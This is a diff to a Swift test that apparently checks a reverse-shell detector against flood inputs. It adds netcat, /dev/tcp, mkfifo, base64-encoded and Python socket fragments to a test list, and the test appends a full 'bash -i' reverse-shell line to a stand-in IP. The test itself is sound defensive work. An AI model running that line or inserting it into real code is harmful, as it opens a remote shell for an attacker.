@@ -275,7 +275,8 @@ private func base64(_ text: String, line: Int) -> String {
 
   @Test(arguments: [
     "/dev/tcp/", "nc ", "nc -e ", "bash -i ", "s.connect((", "nc a 1|sh|", "{a,", "mkfifo nc a 1;", "YmFzaCAtaS",
-    "\\x41", "rev ", "a=b,", "98,",
+    "\\x41", "rev ", "a=b,", "98,", "echo AAAAAAAA;base64 ", "nc -c 'sh ", "nc -e `a ", "connect((\"a\",",
+    "exec(socket recv(",
   ])
   func survivesFloods(unit: String) {
     let text = String(repeating: unit, count: 60_000) + "\nbash -i >& /dev/tcp/198.51.100.9/4242 0>&1"
